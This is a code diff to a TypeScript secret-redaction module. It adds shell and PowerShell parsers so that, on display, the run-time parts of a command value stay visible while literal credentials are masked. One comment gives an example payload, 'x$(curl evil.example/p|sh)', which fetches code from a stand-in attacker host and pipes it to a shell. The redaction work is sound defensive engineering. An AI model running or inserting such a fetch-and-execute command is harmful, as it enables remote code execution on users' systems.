@@ -1749,6 +1749,8 @@ interface Span {
    * quotes the shell reads (`process.env.TOKEN='a'+'b'` as the line itself), which may run past the word.
    */
   written?: { start: number; end: number };
+  /** For the display: what to write over `written` instead of one reference (see `shownInPlace`). */
+  shown?: string;
 }
 
 /** `[start, end)` of `text` where a telling connection-string pair's literal value is written (see `connectionPairs`). */
@@ -2108,6 +2110,117 @@ function writtenWhole(
   return open || close !== "" || i !== end ? undefined : { start, end };
 }
 
+/** What stands at `i` of a line as a display reads it: `step` characters, literal text, a quote or a run-time part. */
+type ShownStep = { step: number; kind: "literal" | "quote" | "part" } | undefined;
+
+/**
+ * For the display only (r50 F1): `line`'s text at `[from, to)`, a value read partly at run time,
+ * with each run-time part and each quote kept as written (each part through `part`) and each
+ * stretch of literal text between them written as `literal(text)`, so a payload beside a
+ * credential (`x$(curl evil.example/p|sh)`) stays in sight while the credential does not.
+ * `walk.read(i)` says what stands at `i`; it is called in order from `walk.at`, which is left at
+ * `to` (or past the line, when the walk could not go on: nothing later is read), so several values
+ * of one word cost one pass over it. Undefined when no run-time part stands there, or one runs
+ * over either end.
+ */
+function shownInPlace(
+  line: string,
+  walk: { at: number; read: (i: number) => ShownStep },
+  [from, to]: [number, number],
+  literal: (text: string) => string,
+  part: (text: string) => string,
+): string | undefined {
+  if (walk.at > from) return undefined;
+  // What stands there, in order: literal text merged, each quote and part alone; `hide` is called
+  // only once a part is known to stand there.
+  const pieces: { text: string; kind: "literal" | "quote" | "part" }[] = [];
+  for (let i = walk.at; i < to; ) {
+    const next = walk.read(i);
+    if (next === undefined || (i < from && i + next.step > from) || i + next.step > to) {
+      walk.at = line.length + 1;
+      return undefined;
+    }
+    const text = line.slice(i, i + next.step);
+    const last = pieces.at(-1);
+    if (i >= from && next.kind === "literal" && last?.kind === "literal") last.text += text;
+    else if (i >= from) pieces.push({ text, kind: next.kind });
+    i += next.step;
+  }
+  walk.at = to;
+  if (!pieces.some((piece) => piece.kind === "part")) return undefined;
+  return pieces
+    .map(({ text, kind }) => (kind === "literal" ? literal(text) : kind === "part" ? part(text) : text))
+    .join("");
+}
+
+/**
+ * A reader of a shell word from its start, for `shownInPlace`: `$(…)`, `${…}`, `$[…]`, a
+ * backtick's, `$NAME` and `$1`-like parts are run-time parts outside '…'; quotes (`'`, `"`, `$'`,
+ * `$"`) are quotes; a backslash and the character after it are literal text.
+ */
+function shellStepper(line: string): (i: number) => ShownStep {
+  let close = "";
+  return (i) => {
+    const c = line[i] as string;
+    const next = line[i + 1] ?? "";
+    if (close === "'" || close === "$'") {
+      if (c === "'") close = "";
+      else return { step: close === "$'" && c === "\\" ? 2 : 1, kind: "literal" };
+      return { step: 1, kind: "quote" };
+    }
+    if (c === "\\") return { step: 2, kind: "literal" };
+    if (c === "`" || (c === "$" && /[{([]/.test(next)))
+      return { step: Math.max(1, expansionEnd(line, i).end - i), kind: "part" };
+    if (c === "$" && /[A-Za-z_]/.test(next)) {
+      RUN_TIME_NAME.lastIndex = i + 1;
+      RUN_TIME_NAME.test(line);
+      return { step: RUN_TIME_NAME.lastIndex - i, kind: "part" };
+    }
+    if (c === "$" && /[0-9$!?#*@-]/.test(next)) return { step: 2, kind: "part" };
+    if (close === '"') {
+      if (c !== '"') return { step: 1, kind: "literal" };
+      close = "";
+      return { step: 1, kind: "quote" };
+    }
+    if (c === "'" || c === '"') {
+      close = c;
+      return { step: 1, kind: "quote" };
+    }
+    if (c === "$" && (next === "'" || next === '"')) {
+      close = next === "'" ? "$'" : '"';
+      return { step: 2, kind: "quote" };
+    }
+    return { step: 1, kind: "literal" };
+  };
+}
+
+/**
+ * A reader of the inside of a PowerShell "…" string ending at `end`, for `shownInPlace`: `$(…)`
+ * (parentheses paired), `${…}` and `$name` (`$env:NAME` too) are run-time parts; a backtick and
+ * the character after it, and `""`, are literal text. Undefined for a part left open.
+ */
+function pwshStepper(line: string, end: number): (i: number) => ShownStep {
+  return (i) => {
+    const c = line[i] as string;
+    const next = line[i + 1] ?? "";
+    if (c === "`" || (c === '"' && next === '"')) return { step: 2, kind: "literal" };
+    if (c !== "$" || !(next === "(" || next === "{" || PWSH_NAME.test(next)))
+      return { step: 1, kind: "literal" };
+    let j = i + 1;
+    if (next === "(") {
+      for (let depth = 0; j < end; j += 1) {
+        if (line[j] === "(") depth += 1;
+        else if (line[j] === ")" && --depth === 0) break;
+      }
+    } else if (next === "{") while (j < end && line[j] !== "}") j += 1;
+    else {
+      while (j < end && PWSH_NAME.test(line[j] as string)) j += 1;
+      j -= 1;
+    }
+    return j < end ? { step: j + 1 - i, kind: "part" } : undefined;
+  };
+}
+
 /** The spans found by the rules for args in one word's value (see `wordSpans`), given the two words before it on its line. */
 function ruleSpans(word: CommandWord, previous: CommandWord | undefined, twoBefore?: CommandWord): Span[] {
   const value = word.value;
@@ -2336,6 +2449,7 @@ export function commandLineSecrets(
   line: string,
   hide?: SecretHide,
   scriptName: () => string = () => "SHELL_COMMAND",
+  display = false,
 ): ArgFound | undefined {
   const named = (secret: string, name: string) => (hide ? hide(secret, name) : reference(name));
   const words = commandWords(line);
@@ -2423,7 +2537,18 @@ export function commandLineSecrets(
     if (pwsh) {
       keep(pwsh.start);
       sign ??= SecretSign.Flag;
-      out += named(line.slice(pwsh.start, pwsh.end), pwsh.name);
+      // Shown, a "…" value's run-time parts stay in sight, its literal text hidden in place (r50 F1).
+      const shown =
+        display && line[pwsh.start - 1] === '"'
+          ? shownInPlace(
+              line,
+              { at: pwsh.start, read: pwshStepper(line, pwsh.end) },
+              [pwsh.start, pwsh.end],
+              (text) => named(text, pwsh.name),
+              (text) => withoutKeys(text, hide),
+            )
+          : undefined;
+      out += shown ?? named(line.slice(pwsh.start, pwsh.end), pwsh.name);
       at = pwsh.end;
       return;
     }
@@ -2446,13 +2571,39 @@ export function commandLineSecrets(
       span.written === undefined &&
       span.end > span.start &&
       (written[span.end - 1] as number) - (written[span.start] as number) !== span.end - 1 - span.start;
+    // Shown (never exported), a value read partly at run time keeps its run-time parts in sight,
+    // its literal text hidden in place, stretch by stretch (r50 F1: a payload beside a credential).
+    // One walk over the word for all its values (they stand in order).
+    const walk = { at: word.start, read: shellStepper(line) };
+    if (display && word.dynamic && !word.data)
+      for (const span of spans) {
+        if (span.end <= span.start || span.written || span.put !== undefined || span.with !== undefined)
+          continue;
+        const region = split(span)
+          ? writtenWhole(line, word, span)
+          : { start: written[span.start] as number, end: (written[span.end - 1] as number) + 1 };
+        const shown =
+          region &&
+          shownInPlace(
+            line,
+            walk,
+            [region.start, region.end],
+            (text) => named(text, span.name ?? ""),
+            (text) => withoutKeys(text, hide),
+          );
+        if (shown === undefined || region === undefined) continue;
+        span.written = region;
+        span.shown = shown;
+      }
     // Read partly at run time and written apart (`$X'hunter2'`): the text as written is hidden,
-    // quotes and all, when no quote is left open at its ends.
+    // quotes and all, when no quote is left open at its ends; else the word is kept as written
+    // (r50 F4: written again in '…', it would not fill back byte for byte).
     if (word.dynamic && !word.data)
       for (const span of spans)
         if (split(span) && span.put === undefined && span.with === undefined) {
           const whole = writtenWhole(line, word, span);
           if (whole) span.written = whole;
+          else span.end = span.start;
         }
     // Written apart (a quote or an escape inside the secret), or to be replaced by text holding a
     // quote or a backslash (a JSON word's string): the whole word is written again.
@@ -2464,7 +2615,7 @@ export function commandLineSecrets(
       if (span.written) {
         keep(span.written.start);
         sign ??= span.sign;
-        out += named(line.slice(span.written.start, span.written.end), span.name ?? "");
+        out += span.shown ?? named(line.slice(span.written.start, span.written.end), span.name ?? "");
         at = span.written.end;
         // A program's expression runs to the word's end and past it: nothing after it is read.
         if (span.end === word.value.length) break;
@@ -3285,14 +3436,15 @@ function lineSecrets(
   hide: SecretHide | undefined,
   scriptName: () => string,
   shell: boolean,
+  display = false,
 ): ArgFound | undefined {
   if (LINE_BREAK.test(line) || HEREDOC.test(line)) return shellScript(line, hide, scriptName);
   const pairs = connectionString(line, shell)
     ? connectionPairs(line, ARG_RULES, literalNamer(hide), hide)
     : undefined;
-  if (pairs === undefined) return commandLineSecrets(line, hide, scriptName);
+  if (pairs === undefined) return commandLineSecrets(line, hide, scriptName, display);
   // What the pairs' reading leaves, read as a command line (a value holding `--token X`).
-  const rest = commandLineSecrets(pairs.safe, hide, scriptName);
+  const rest = commandLineSecrets(pairs.safe, hide, scriptName, display);
   return { sign: pairs.sign, safe: rest?.safe ?? pairs.safe };
 }
 
@@ -3304,7 +3456,7 @@ function lineSecrets(
  */
 export function shownLineSecrets(line: string, hide: SecretHide | undefined): ArgFound | undefined {
   if (LINE_BREAK.test(line) || HEREDOC.test(line)) return commandLineSecrets(line, hide);
-  return lineSecrets(line, hide, () => "SHELL_COMMAND", true);
+  return lineSecrets(line, hide, () => "SHELL_COMMAND", true, true);
 }
 
 /** A connection string's pair: `Password=X`, ` User Id = sa`. */
